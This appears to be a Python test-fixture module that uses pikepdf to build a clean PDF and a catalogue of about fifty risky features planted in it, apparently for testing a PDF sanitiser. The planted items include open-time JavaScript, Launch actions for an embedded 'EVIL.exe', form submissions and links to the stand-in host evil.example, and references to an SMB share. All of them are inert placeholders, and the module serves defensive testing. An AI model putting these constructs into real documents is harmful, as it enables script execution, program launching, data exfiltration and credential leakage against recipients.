"""PDFs for tests: a harmless one, and what can be planted in it. All that is planted says EVIL."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO
from typing import Any
from warnings import catch_warnings

from pikepdf import (
    Array,
    Dictionary,
    Encryption,
    Name,
    Object,
    ObjectStreamMode,
    Pdf,
    PikepdfWarning,
    StreamDecodeLevel,
)

Plant = Callable[[Pdf], object]
WORDS = b"BT /F1 26 Tf 60 700 Td (Thank you, Imani!) Tj ET"
ADDRESS, SHARE = "https://evil.example/EVIL", r"\\192.0.2.1\EVIL"
BOX = [10, 10, 60, 60]


def new_pdf(pages: int = 2) -> Pdf:
    """Pages with one line each."""
    pdf = Pdf.new()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842)).obj
        page.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))
        page.Contents = pdf.make_stream(WORDS)
    return pdf


def bytes_of(pdf: Pdf, *, packed: bool = True) -> bytes:
    """The file; ``packed`` puts its objects into compressed lists."""
    return _saved(pdf, packed=packed, level=StreamDecodeLevel.none)


def _saved(pdf: Pdf, *, packed: bool, level: StreamDecodeLevel) -> bytes:
    paper = BytesIO()
    pdf.save(
        paper,
        object_stream_mode=ObjectStreamMode.generate if packed else ObjectStreamMode.disable,
        stream_decode_level=level,
        compress_streams=level == StreamDecodeLevel.none,
        fix_metadata_version=False,
        deterministic_id=True,
    )
    return paper.getvalue()


def spoiled(plant: Plant, *, packed: bool = True) -> bytes:
    """The file after ``plant`` has put something into it."""
    pdf = new_pdf()
    plant(pdf)
    return bytes_of(pdf, packed=packed)


def locked_pdf(password: str = "") -> bytes:
    """A file that is encrypted, and opens without a password if there is none."""
    paper = BytesIO()
    new_pdf().save(paper, encryption=Encryption(owner="owner", user=password))
    return paper.getvalue()


def laid_open(content: bytes) -> bytes:
    """Everything in the file, unpacked, and names without escapes."""
    with (
        Pdf.open(BytesIO(content)) as pdf,
        catch_warnings(action="ignore", category=PikepdfWarning),
    ):
        return _saved(pdf, packed=False, level=StreamDecodeLevel.generalized)


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **more)


def script() -> Dictionary:
    return action("JavaScript", JS="app.alert('EVIL')")


def file_of(pdf: Pdf) -> Object:
    """A file inside."""
    data = pdf.make_stream(b"MZ EVIL", Type=Name.EmbeddedFile)
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F="EVIL.exe", UF="EVIL.exe", EF=Dictionary(F=data))
    )


def annotate(pdf: Pdf, kind: str, **more: Any) -> Object:
    """An annotation on the first page."""
    note = Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=Array(BOX), **more)
    page, kept = pdf.pages[0].obj, pdf.make_indirect(note)
    if "/Annots" not in page:
        page.Annots = Array()
    page.Annots.append(kept)
    return kept


def field(pdf: Pdf, **more: Any) -> Object:
    """A form with one field, which shows something."""
    look = pdf.make_stream(b"(seen in the field) Tj", Type=Name.XObject, Subtype=Name.Form)
    look.BBox = Array(BOX)
    filled = {"FT": Name.Tx, "T": "name", "V": "Imani", "AP": Dictionary(N=look)}
    widget = annotate(pdf, "Widget", **(filled | more))
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), DA="/F1 9 Tf")
    return widget


def chapter(pdf: Pdf, **more: Any) -> Object:
    """A table of contents with one line."""
    line = pdf.make_indirect(Dictionary(Title="Chapter 1", **more))
    pdf.Root.Outlines = pdf.make_indirect(
        Dictionary(Type=Name.Outlines, First=line, Last=line, Count=1)
    )
    line.Parent = pdf.Root.Outlines
    return line


def going_to(pdf: Pdf, number: int = 1, **more: Any) -> Dictionary:
    return action("GoTo", D=Array([pdf.pages[number].obj, Name.Fit]), **more)


def drawn(pdf: Pdf, **more: Any) -> Object:
    """Something drawn on the first page, as a picture or a form would be."""
    thing = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array(BOX), **more)
    pdf.pages[0].obj.Resources.XObject = Dictionary(X1=thing)
    return thing


def metadata(pdf: Pdf) -> Object:
    return pdf.make_stream(b"<x:xmpmeta>EVIL</x:xmpmeta>", Type=Name.Metadata, Subtype=Name.XML)


def _root(name: str, make: Callable[[Pdf], Any]) -> Plant:
    return lambda pdf: pdf.Root.__setitem__("/" + name, make(pdf))


def _page(name: str, make: Callable[[Pdf], Any]) -> Plant:
    return lambda pdf: pdf.pages[0].obj.__setitem__("/" + name, make(pdf))


def _names(kind: str, make: Callable[[Pdf], Any]) -> Plant:
    def tree(pdf: Pdf) -> Dictionary:
        leaf = Dictionary(Names=Array(["EVIL", make(pdf)]))
        return Dictionary({"/" + kind: Dictionary(Kids=Array([pdf.make_indirect(leaf)]))})

    return _root("Names", tree)


def _hidden_name(pdf: Pdf) -> None:
    """The kind of an action as an object of its own."""
    pdf.Root.OpenAction = Dictionary(S=pdf.make_indirect(Name.JavaScript), JS="EVIL")


def _tagged_file(pdf: Pdf) -> None:
    """A file that hangs only in the structure of the text."""
    note = pdf.make_indirect(
        Dictionary(Subtype=Name.FileAttachment, Rect=Array(BOX), FS=file_of(pdf))
    )
    reference = Dictionary(Type=Name.OBJR, Obj=note)
    element = Dictionary(S=Name.P, K=Array([reference]), AF=Array([file_of(pdf)]))
    pdf.Root.StructTreeRoot = Dictionary(
        Type=Name.StructTreeRoot, K=Array([pdf.make_indirect(element)])
    )


def _destination(pdf: Pdf) -> None:
    """A named place that is a script."""
    pdf.Root.Dests = Dictionary(place=Dictionary(D=script()))


def _chain(pdf: Pdf) -> None:
    last = going_to(pdf, Next=Array([going_to(pdf), script()]))
    annotate(pdf, "Link", A=going_to(pdf, Next=last))


PLANTS: dict[str, Plant] = {
    "open script": _root("OpenAction", lambda _: script()),
    "open address": _root("OpenAction", lambda _: action("URI", URI=ADDRESS)),
    "open share": _root("OpenAction", lambda _: action("GoToR", F=SHARE, D=Array([0, Name.Fit]))),
    "open program": _root("OpenAction", lambda _: action("Launch", F="EVIL.exe")),
    "open chain": _root("OpenAction", lambda pdf: going_to(pdf, Next=script())),
    "kind is an object": _hidden_name,
    "document closes": _root("AA", lambda _: Dictionary(WC=script())),
    "base address": _root("URI", lambda _: Dictionary(Base=ADDRESS)),
    "page opens": _page("AA", lambda _: Dictionary(O=action("URI", URI=ADDRESS))),
    "page steps": _page("PresSteps", lambda _: Dictionary(NA=script())),
    "named scripts": _names("JavaScript", lambda _: script()),
    "named files": _names("EmbeddedFiles", file_of),
    "named place": _destination,
    "file of document": _root("AF", lambda pdf: Array([file_of(pdf)])),
    "file of page": _page("AF", lambda pdf: Array([file_of(pdf)])),
    "file in the structure": _tagged_file,
    "file attached": lambda pdf: annotate(pdf, "FileAttachment", FS=file_of(pdf)),
    "link to address": lambda pdf: annotate(pdf, "Link", A=action("URI", URI=ADDRESS)),
    "link to file": lambda pdf: annotate(pdf, "Link", A=action("GoToE", F=file_of(pdf))),
    "link to unknown": lambda pdf: annotate(pdf, "Link", A=action("New", Where="EVIL")),
    "link that was": lambda pdf: annotate(pdf, "Link", Dest="x", PA=action("URI", URI=ADDRESS)),
    "link with chain": _chain,
    "note opens": lambda pdf: annotate(pdf, "Text", AA=Dictionary(PO=script())),
    "video": lambda pdf: annotate(
        pdf, "RichMedia", RichMediaContent=Dictionary(Assets=Array([file_of(pdf)]))
    ),
    "model": lambda pdf: annotate(pdf, "3D", **{"3DD": pdf.make_stream(b"EVIL")}),
    "movie": lambda pdf: annotate(pdf, "Movie", Movie=Dictionary(F=SHARE)),
    "sound": lambda pdf: annotate(pdf, "Sound", Sound=pdf.make_stream(b"EVIL", R=8000)),
    "screen": lambda pdf: annotate(
        pdf, "Screen", A=action("Rendition", R=Dictionary(S=Name.MR, N="EVIL"))
    ),
    "chapter to address": lambda pdf: chapter(pdf, A=action("URI", URI=ADDRESS)),
    "chapter with script": lambda pdf: chapter(pdf, A=script()),
    "field calculates": lambda pdf: field(pdf, AA=Dictionary(C=script())),
    "field sends": lambda pdf: field(pdf, A=action("SubmitForm", F=ADDRESS)),
    "field reads": lambda pdf: field(pdf, A=action("ImportData", F=SHARE)),
    "field above sends": lambda pdf: field(
        pdf, Parent=pdf.make_indirect(Dictionary(AA=Dictionary(K=script())))
    ),
    "signature": lambda pdf: field(
        pdf, FT=Name.Sig, V=Dictionary(Name="EVIL", ByteRange=Array([0, 1, 2, 3]))
    ),
    "other form": lambda pdf: (
        field(pdf)
        and pdf.Root.AcroForm.__setitem__(
            "/XFA", Array(["template", pdf.make_stream(b"<xdp>EVIL</xdp>")])
        )
    ),
    "author": lambda pdf: pdf.docinfo.__setitem__("/Author", "EVIL"),
    "metadata": _root("Metadata", metadata),
    "metadata of page": _page("Metadata", metadata),
    "metadata of drawing": lambda pdf: drawn(pdf, Metadata=metadata(pdf)),
    "programs' notes": lambda pdf: drawn(
        pdf, PieceInfo=Dictionary(Tool=Dictionary(Private="EVIL"))
    ),
    "drawing from a share": lambda pdf: drawn(pdf, F=SHARE),
    "drawing from a file": lambda pdf: drawn(
        pdf, Ref=Dictionary(F=Dictionary(Type=Name.F, F=SHARE), Page=0)
    ),
    "program of a printer": lambda pdf: drawn(
        pdf, PS=pdf.make_stream(b"EVIL", Type=Name.XObject, Subtype=Name.PS)
    ),
    "maker of layers": _root(
        "OCProperties", lambda _: Dictionary(OCGs=Array(), D=Dictionary(Creator="EVIL"))
    ),
    "end of file": lambda pdf: pdf.trailer.__setitem__("/Secret", "EVIL"),
}
